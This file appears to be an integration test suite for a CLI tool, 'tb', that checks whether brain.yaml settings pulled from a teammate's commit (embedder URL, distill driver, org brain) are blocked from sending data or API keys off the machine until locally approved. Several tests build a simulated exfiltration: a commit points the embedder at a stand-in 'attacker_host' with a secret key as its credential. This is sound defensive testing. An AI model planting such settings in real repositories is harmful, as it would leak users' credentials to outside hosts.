"""A pulled commit is untrusted: brain.yaml settings that send data off the machine (an
embedder, a distill driver, a plugin, an org brain elsewhere) are used only once this machine
approved that destination and credential for this repository — the installed ``tb`` on a real
repository, with a listener on 127.0.0.1 standing in for the commit's host."""

from __future__ import annotations

import json
import os
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from untrusted import on_a_terminal

TB = str(Path(sys.executable).parent / "tb")
AttackerHost = Any  # the attacker_host fixture (tests-integration/conftest.py)
SECRET = "sk-live-" + "k" * 40
MEMORY = """---
id: 01KB2F0A1S9Y4Q7V3C8D5E6F01
class: decision
scope: team
status: active
priority: advisory
title: Payments go through the gateway
created: 2026-11-01
---

Call the payment gateway for every charge; retry three times.
"""


def _brain(repo: Path, tb: Any, git_run: Any) -> None:
    assert tb("init", cwd=repo).returncode == 0
    path = repo / ".teambrain" / "memories" / "decisions" / "01KB2F0A1S9Y4Q7V3C8D5E6F01-pay.md"
    path.write_text(MEMORY)
    git_run("add", "-A", cwd=repo)
    git_run("commit", "-qm", "brain", cwd=repo)


def _teammate_commit(repo: Path, git_run: Any, old: str, new: str) -> None:
    yaml = repo / ".teambrain" / "brain.yaml"
    text = yaml.read_text()
    assert old in text
    yaml.write_text(text.replace(old, new, 1))
    git_run("commit", "-qam", "teammate: brain settings", cwd=repo)


def _point_embedder_at(repo: Path, git_run: Any, url: str, key_env: str = "TB_SECRET") -> None:
    yaml = (repo / ".teambrain" / "brain.yaml").read_text()
    start = yaml.index("  embedder:\n")
    end = yaml.index("    plugin: null\n", start)
    block = (
        "  embedder:\n    provider: openai\n    model: null\n    path: null\n"
        f"    base_url: {url}\n    api_key_env: {key_env}\n    timeout_s: 2.0\n"
    )
    _teammate_commit(repo, git_run, yaml[start:end], block)


def test_a_pulled_embedder_destination_receives_nothing_until_approved(
    repo: Path, tb: Any, git_run: Any, attacker_host: AttackerHost
) -> None:
    _brain(repo, tb, git_run)
    _point_embedder_at(repo, git_run, attacker_host.url + "/v1")
    env = {"TB_SECRET": SECRET}
    relevant = tb("relevant", "-q", "payment gateway", cwd=repo, env=env)
    assert relevant.returncode == 0 and "Payments go through the gateway" in relevant.stdout
    assert "keyword search only" in relevant.stderr and "not approved" in relevant.stderr
    assert tb("reindex", cwd=repo, env=env).returncode == 0
    lint = tb("lint", cwd=repo, env=env)
    assert lint.returncode == 0
    assert "egress (note): retrieval.embedder" in lint.stderr
    assert f"{attacker_host.url}/v1, with $TB_SECRET as credential" in lint.stderr
    assert "not approved on this machine" in lint.stderr
    notes = json.loads(tb("lint", "--json", "--strict", cwd=repo, env=env).stdout)["notes"]
    assert any(n["rule"] == "egress" and n["severity"] == "note" for n in notes)
    doctor = tb("doctor", "--json", cwd=repo, env=env)
    findings = {f["name"]: f for f in json.loads(doctor.stdout)["findings"]}
    egress = findings["egress retrieval.embedder"]
    assert egress["status"] == "problem" and attacker_host.url in egress["detail"]
    assert "tb trust" in egress["fix"]
    verify = json.loads(tb("verify", "--json", cwd=repo, env=env).stdout)
    check = next(c for c in verify["checks"] if c["id"] == "egress")
    assert check["status"] == "PASS" and "1 not approved and not used" in check["summary"]
    assert any(attacker_host.url in line for line in check["evidence"])
    assert attacker_host.received == []
    assert all(SECRET not in out for out in (relevant.stderr, lint.stderr, doctor.stdout))

    # This machine approves (non-interactively): the destination is used, with the credential.
    trust = tb("trust", "--yes", cwd=repo, env=env)
    assert trust.returncode == 0 and "approved" in trust.stdout
    tb("relevant", "-q", "payment gateway", cwd=repo, env=env)
    assert attacker_host.received
    assert f"Bearer {SECRET}".encode() in attacker_host.received[0]

    # A later commit points the same key elsewhere: asked again, nothing sent meanwhile.
    attacker_host.received.clear()
    _point_embedder_at(repo, git_run, attacker_host.url + "/v2")
    again = tb("relevant", "-q", "payment gateway", cwd=repo, env=env)
    assert again.returncode == 0 and "changed since this machine approved it" in again.stderr
    state = json.loads(tb("trust", "--json", cwd=repo, env=env).stdout)["settings"][0]
    assert state["state"] == "changed" and state["was"] == f"{attacker_host.url}/v1, $TB_SECRET"
    assert attacker_host.received == []


def test_serve_answers_without_asking_and_sends_nothing(
    repo: Path, tb: Any, git_run: Any, attacker_host: AttackerHost
) -> None:
    import anyio
    from mcp import Client, StdioServerParameters

    _brain(repo, tb, git_run)
    _point_embedder_at(repo, git_run, attacker_host.url)

    async def session() -> tuple[Any, Any]:
        params = StdioServerParameters(
            command=TB, args=["serve"], cwd=repo, env={**os.environ, "TB_SECRET": SECRET}
        )
        async with Client(params) as client:
            found = await client.call_tool("memory_search", {"query": "payment gateway"})
            context = await client.call_tool("memory_context", {})
            return found, context

    started = time.monotonic()
    found, context = anyio.run(session)
    assert time.monotonic() - started < 30
    assert not found.is_error and "Payments go through the gateway" in found.content[0].text
    assert not context.is_error
    notes = (context.structured_content or {}).get("notes", [])
    assert any("not approved" in note for note in notes), notes
    assert attacker_host.received == []


def test_distill_refuses_an_unapproved_driver_with_one_line(
    repo: Path, tb: Any, git_run: Any, attacker_host: AttackerHost, teambrain_home: Path
) -> None:
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "packages" / "distill" / "tests"))
    from distill_testkit import SessionWriter
    from teambrain_kit.paths import MachineLayout

    _brain(repo, tb, git_run)
    _teammate_commit(
        repo, git_run, "  driver: none\n  model: none\n  api_key_env: null\n  base_url: null\n",
        f"  driver: openai\n  model: m\n  api_key_env: TB_SECRET\n  base_url: {attacker_host.url}/v1\n",
    )  # fmt: skip
    sha = git_run("rev-parse", "HEAD", cwd=repo).strip()
    SessionWriter(MachineLayout(teambrain_home), "s-1", repo=str(repo)).event(
        "session_start"
    ).intent("fix the checkout").tool("edit", "a.py").end("committed", [sha[:12]]).write()
    done = tb("distill", cwd=repo, env={"TB_SECRET": SECRET})
    assert done.returncode == 2
    [line] = done.stderr.strip().splitlines()
    assert "not approved on this machine" in line and "$TB_SECRET" in line
    assert SECRET not in done.stdout + done.stderr
    assert attacker_host.received == []


def test_an_org_brain_outside_the_repository_is_served_once_approved(
    tmp_path: Path, repo: Path, tb: Any, git_run: Any
) -> None:
    org = tmp_path / "org"
    org.mkdir()
    git_run("init", "-q", cwd=org)
    assert tb("init", cwd=org).returncode == 0
    memory = (
        MEMORY.replace("scope: team", "scope: org")
        .replace("6F01", "6F02")
        .replace("Payments go through the gateway", "Org rule - rotate keys quarterly")
    )
    (
        org / ".teambrain" / "memories" / "decisions" / "01KB2F0A1S9Y4Q7V3C8D5E6F02-org.md"
    ).write_text(memory.replace("Call the payment gateway", "Rotate keys"))
    _brain(repo, tb, git_run)
    _teammate_commit(repo, git_run, "org_brain: null", "org_brain: ../org")
    before = tb("relevant", "-q", "rotate keys quarterly", cwd=repo)
    assert "Org rule" not in before.stdout and "org_brain" in before.stderr
    assert tb("trust", "--yes", "org_brain", cwd=repo).returncode == 0
    after = tb("relevant", "-q", "rotate keys quarterly", cwd=repo)
    assert "Org rule - rotate keys quarterly" in after.stdout, after.stderr


def test_an_approvals_file_others_can_write_approves_nothing(
    repo: Path, tb: Any, git_run: Any, attacker_host: AttackerHost, teambrain_home: Path
) -> None:
    _brain(repo, tb, git_run)
    _point_embedder_at(repo, git_run, attacker_host.url)
    assert tb("trust", "--yes", cwd=repo).returncode == 0
    (teambrain_home / "trust.json").chmod(0o666)
    tb("relevant", "-q", "payment gateway", cwd=repo, env={"TB_SECRET": SECRET})
    assert attacker_host.received == []
    verify = tb("verify", "--json", cwd=repo)
    assert verify.returncode == 3
    check = next(c for c in json.loads(verify.stdout)["checks"] if c["id"] == "egress")
    assert check["status"] == "FAIL" and "writable by others" in check["summary"]
    refused = tb("trust", "--yes", cwd=repo)
    assert refused.returncode == 0 and "nothing is approved" in refused.stderr


@pytest.mark.parametrize("answer", [b"y\n", b"n\n"])
def test_on_a_terminal_a_verb_asks_before_sending(
    repo: Path, tb: Any, git_run: Any, attacker_host: AttackerHost, answer: bytes
) -> None:
    _brain(repo, tb, git_run)
    _point_embedder_at(repo, git_run, attacker_host.url, key_env="HOME")
    code, output = on_a_terminal(repo, ["relevant", "-q", "payment gateway"], answer)
    assert code == 0, output
    assert "wants to send data off this machine" in output and attacker_host.url in output
    state = json.loads(tb("trust", "--json", cwd=repo).stdout)["settings"][0]["state"]
    if answer == b"y\n":
        assert state == "approved" and attacker_host.received
    else:
        assert state == "not approved" and attacker_host.received == []
        assert "keyword search only" in output


def test_trust_on_a_terminal_lists_then_asks(
    repo: Path, tb: Any, git_run: Any, attacker_host: AttackerHost
) -> None:
    _brain(repo, tb, git_run)
    assert "sends nothing off this machine" in tb("trust", cwd=repo).stderr
    _point_embedder_at(repo, git_run, attacker_host.url)
    code, output = on_a_terminal(repo, ["trust"], b"y\n")
    assert code == 0 and "not approved  retrieval.embedder" in output
    assert json.loads(tb("trust", "--json", cwd=repo).stdout)["settings"][0]["state"] == "approved"
    revoked = tb("trust", "--revoke", cwd=repo)
    assert revoked.returncode == 0 and "forgot 1 approval" in revoked.stderr
    assert tb("trust", "nonsense", cwd=repo).returncode == 1


def test_verify_names_the_fetch_tb_serve_makes_on_this_machines_say(
    repo: Path, tb: Any, git_run: Any
) -> None:
    """Issue 27 point 7: the only network `tb serve` makes itself is the periodic fetch of the
    default branch, off unless this machine's user config turns it on; `tb verify` names it."""
    _brain(repo, tb, git_run)

    def egress(env: dict[str, str]) -> dict[str, Any]:
        verify = json.loads(tb("verify", "--json", cwd=repo, env=env).stdout)
        check: dict[str, Any] = next(c for c in verify["checks"] if c["id"] == "egress")
        return check

    off = egress({})
    assert not any("fetches the default branch" in line for line in off["evidence"])
    user = Path(os.environ["TEAMBRAIN_HOME"]) / "user"
    user.mkdir(parents=True, exist_ok=True)
    (user / "config.toml").write_text("[serve]\nfetch_minutes = 5\n", "utf-8")
    on = egress({})
    assert on["status"] == "PASS"
    assert any("fetches the default branch" in line and "every 5 min" in line
               for line in on["evidence"])  # fmt: skip
